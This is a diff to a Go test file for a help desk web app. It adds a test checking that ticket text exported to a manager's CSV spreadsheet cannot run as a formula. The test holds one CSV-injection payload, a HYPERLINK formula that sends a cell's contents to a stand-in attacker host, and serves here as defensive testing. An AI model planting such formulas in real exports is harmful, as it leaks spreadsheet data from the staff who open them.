@@ -2,6 +2,7 @@ package web_test
 
 import (
 	"bytes"
+	"encoding/csv"
 	"image"
 	"image/color"
 	"image/png"
@@ -178,6 +179,27 @@ func TestScriptsAreText(t *testing.T) {
 		assert.NotContains(t, page.body, "<img", "%d", i)
 	}
 	assert.Contains(t, p.body, "{{.Data}}", "a customer's text is never a template")
+}
+
+// 6. What customers type is no formula in a manager's spreadsheet.
+func TestSheetsHoldNoFormulas(t *testing.T) {
+	t.Parallel()
+	s := open(t)
+	const evil = `=HYPERLINK("http://evil.example?"&A1;"Rechnung")`
+	one := s.ticketOf(s.write(s.browser(), "neu@post.example", "x", "subject", evil, "order", "@B-1"))
+	p := s.as("anna").get("/desk/manage/tickets.csv")
+	require.Equal(t, http.StatusOK, p.code, s.log.String())
+	assert.Contains(t, p.header.Get("Content-Disposition"), "attachment")
+	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(p.body, "\ufeff"))).ReadAll()
+	require.NoError(t, err)
+	at := slices.IndexFunc(rows, func(r []string) bool { return r[0] == one.Number })
+	require.Positive(t, at)
+	assert.Equal(t, "'"+evil, rows[at][6])
+	assert.NotRegexp(t, `(?m)(^|[,;\t"])[=+@-]`, p.body)
+	assert.NotContains(t, p.body, "neu@post.example", "customers are references")
+	audits, err := s.db.Audits(t.Context(), 1<<62, 1)
+	require.NoError(t, err)
+	assert.Equal(t, "sheet", audits[0].What)
 }
 
 // 6. Every page is strict with the browser.
